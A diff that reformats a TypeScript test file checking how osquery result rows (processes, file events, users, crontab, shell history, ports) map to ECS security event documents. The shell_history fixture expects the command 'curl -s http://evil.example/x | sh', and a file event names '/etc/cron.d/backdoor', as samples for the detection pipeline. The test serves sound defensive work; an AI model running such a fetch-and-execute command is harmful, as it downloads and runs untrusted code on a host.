@@ -7,7 +7,10 @@ import type { ResultEvent } from '../../schemas/generated/index.js';
 import { mapResultEvent } from './map-event.js';
 import { tableFromQueryName } from './registry.js';
 
-const ROWS = JSON.parse(readFileSync(fromRoot('enricher/ecs/fixtures/result-rows.json'), 'utf8')) as Record<string, ResultEvent>;
+const ROWS = JSON.parse(readFileSync(fromRoot('enricher/ecs/fixtures/result-rows.json'), 'utf8')) as Record<
+  string,
+  ResultEvent
+>;
 
 function row(name: string): ResultEvent {
   const event = ROWS[name];
@@ -18,8 +21,12 @@ function row(name: string): ResultEvent {
 /** Every expected field must be present with that value; fields not named are not checked. */
 function assertSubset(actual: unknown, expected: unknown, path = 'doc'): void {
   if (expected !== null && typeof expected === 'object' && !Array.isArray(expected)) {
-    assert.ok(actual !== null && typeof actual === 'object', `${path} should be an object, is ${JSON.stringify(actual)}`);
-    for (const [key, value] of Object.entries(expected)) assertSubset((actual as Record<string, unknown>)[key], value, `${path}.${key}`);
+    assert.ok(
+      actual !== null && typeof actual === 'object',
+      `${path} should be an object, is ${JSON.stringify(actual)}`,
+    );
+    for (const [key, value] of Object.entries(expected))
+      assertSubset((actual as Record<string, unknown>)[key], value, `${path}.${key}`);
   } else {
     assert.deepEqual(actual, expected, path);
   }
@@ -30,18 +37,45 @@ const CASES: Array<{ fixture: string; expect: Partial<Record<keyof EnrichedEvent
     fixture: 'processes',
     expect: {
       timestamp: 1795326000000,
-      event: { kind: 'event', category: ['process'], type: ['start'], action: 'added', dataset: 'osquery.processes', module: 'osquery' },
+      event: {
+        kind: 'event',
+        category: ['process'],
+        type: ['start'],
+        action: 'added',
+        dataset: 'osquery.processes',
+        module: 'osquery',
+      },
       process: {
-        pid: 18503, ppid: 18501, name: 'cat', executable: '/usr/bin/cat', command_line: 'cat /proc/self/stat',
-        working_directory: '/work/main', start: 1795325990000, user: { id: '1000', name: null }, entity_id: 'vm:18503:1795325990',
+        pid: 18503,
+        ppid: 18501,
+        name: 'cat',
+        executable: '/usr/bin/cat',
+        command_line: 'cat /proc/self/stat',
+        working_directory: '/work/main',
+        start: 1795325990000,
+        user: { id: '1000', name: null },
+        entity_id: 'vm:18503:1795325990',
       },
     },
   },
   {
     fixture: 'process_events',
     expect: {
-      event: { kind: 'event', category: ['process'], type: ['start'], action: 'execve', dataset: 'osquery.process_events' },
-      process: { pid: 18510, ppid: 18501, name: 'curl', executable: '/usr/bin/curl', working_directory: '/tmp', start: 1795325995000 },
+      event: {
+        kind: 'event',
+        category: ['process'],
+        type: ['start'],
+        action: 'execve',
+        dataset: 'osquery.process_events',
+      },
+      process: {
+        pid: 18510,
+        ppid: 18501,
+        name: 'curl',
+        executable: '/usr/bin/curl',
+        working_directory: '/tmp',
+        start: 1795325995000,
+      },
     },
   },
   {
@@ -75,41 +109,84 @@ const CASES: Array<{ fixture: string; expect: Partial<Record<keyof EnrichedEvent
     fixture: 'file_events',
     expect: {
       event: { category: ['file'], type: ['creation'], action: 'created', dataset: 'osquery.file_events' },
-      file: { path: '/etc/cron.d/backdoor', name: 'backdoor', directory: '/etc/cron.d', size: 57, mtime: 1795325997000, hash: { md5: 'd41d8cd98f00b204e9800998ecf8427e', sha1: null } },
+      file: {
+        path: '/etc/cron.d/backdoor',
+        name: 'backdoor',
+        directory: '/etc/cron.d',
+        size: 57,
+        mtime: 1795325997000,
+        hash: { md5: 'd41d8cd98f00b204e9800998ecf8427e', sha1: null },
+      },
     },
   },
   {
     fixture: 'file',
     expect: {
       event: { category: ['file'], type: ['creation'], dataset: 'osquery.file' },
-      file: { path: '/usr/bin/bash', name: 'bash', directory: '/usr/bin', extension: null, size: 1265648, inode: '260104', mode: '0755', uid: '0', mtime: 1745016454000 },
+      file: {
+        path: '/usr/bin/bash',
+        name: 'bash',
+        directory: '/usr/bin',
+        extension: null,
+        size: 1265648,
+        inode: '260104',
+        mode: '0755',
+        uid: '0',
+        mtime: 1745016454000,
+      },
     },
   },
   {
     fixture: 'users',
-    expect: { event: { category: ['iam'], type: ['user', 'creation'] }, user: { id: '1000', name: 'cloudsdk', group: { id: '1000' } } },
+    expect: {
+      event: { category: ['iam'], type: ['user', 'creation'] },
+      user: { id: '1000', name: 'cloudsdk', group: { id: '1000' } },
+    },
   },
   {
     fixture: 'logged_in_users',
-    expect: { event: { category: ['session'], type: ['start'] }, user: { name: 'cloudsdk' }, source: { ip: '203.0.113.7' }, process: { pid: 18400 } },
+    expect: {
+      event: { category: ['session'], type: ['start'] },
+      user: { name: 'cloudsdk' },
+      source: { ip: '203.0.113.7' },
+      process: { pid: 18400 },
+    },
   },
-  { fixture: 'deb_packages', expect: { event: { category: ['package'], type: ['installation'], dataset: 'osquery.deb_packages' } } },
+  {
+    fixture: 'deb_packages',
+    expect: { event: { category: ['package'], type: ['installation'], dataset: 'osquery.deb_packages' } },
+  },
   { fixture: 'kernel_modules', expect: { event: { category: ['driver'], type: ['end'], action: 'removed' } } },
   {
     fixture: 'crontab',
-    expect: { event: { category: ['configuration'], type: ['creation'] }, file: { path: '/etc/crontab' }, process: { command_line: 'root cd / && run-parts --report /etc/cron.hourly' } },
+    expect: {
+      event: { category: ['configuration'], type: ['creation'] },
+      file: { path: '/etc/crontab' },
+      process: { command_line: 'root cd / && run-parts --report /etc/cron.hourly' },
+    },
   },
   {
     fixture: 'shell_history',
-    expect: { event: { category: ['process'], type: ['start'] }, user: { id: '1000' }, process: { command_line: 'curl -s http://evil.example/x | sh', start: null } },
+    expect: {
+      event: { category: ['process'], type: ['start'] },
+      user: { id: '1000' },
+      process: { command_line: 'curl -s http://evil.example/x | sh', start: null },
+    },
   },
   {
     fixture: 'unknown_query',
-    expect: { event: { kind: 'state', category: ['host'], type: ['info'], dataset: 'osquery.pack_custom_weird_query' }, process: { pid: 1, executable: '/process_api', name: 'process_api' } },
+    expect: {
+      event: { kind: 'state', category: ['host'], type: ['info'], dataset: 'osquery.pack_custom_weird_query' },
+      process: { pid: 1, executable: '/process_api', name: 'process_api' },
+    },
   },
   {
     fixture: 'signature_only',
-    expect: { event: { dataset: 'osquery.listening_ports' }, destination: { ip: null, port: 2024, address: '::' }, network: { transport: 'udp' } },
+    expect: {
+      event: { dataset: 'osquery.listening_ports' },
+      destination: { ip: null, port: 2024, address: '::' },
+      network: { transport: 'udp' },
+    },
   },
 ];
 
@@ -128,7 +205,13 @@ for (const { fixture, expect } of CASES) {
 }
 
 test('removed rows end what added rows started, per ECS category', () => {
-  const cases: Array<[string, string[]]> = [['processes', ['end']], ['file', ['deletion']], ['users', ['user', 'deletion']], ['process_open_sockets', ['connection', 'end']], ['deb_packages', ['deletion']]];
+  const cases: Array<[string, string[]]> = [
+    ['processes', ['end']],
+    ['file', ['deletion']],
+    ['users', ['user', 'deletion']],
+    ['process_open_sockets', ['connection', 'end']],
+    ['deb_packages', ['deletion']],
+  ];
   for (const [fixture, types] of cases) {
     const event = { ...row(fixture), action: 'removed' as const };
     assert.deepEqual(mapResultEvent(event, 0).doc.event.type, types, fixture);
@@ -137,7 +220,13 @@ test('removed rows end what added rows started, per ECS category', () => {
 
 test('numeric columns (logger_numerics) and avsc-wrapped union values map like strings', () => {
   const event = row('processes');
-  event.columns = { ...event.columns, pid: 18503, start_time: 1795325990, name: { string: 'cat' } as never, parent: { long: 18501 } as never };
+  event.columns = {
+    ...event.columns,
+    pid: 18503,
+    start_time: 1795325990,
+    name: { string: 'cat' } as never,
+    parent: { long: 18501 } as never,
+  };
   const { doc } = mapResultEvent(event, 0);
   assert.equal(doc.process?.pid, 18503);
   assert.equal(doc.process?.ppid, 18501);
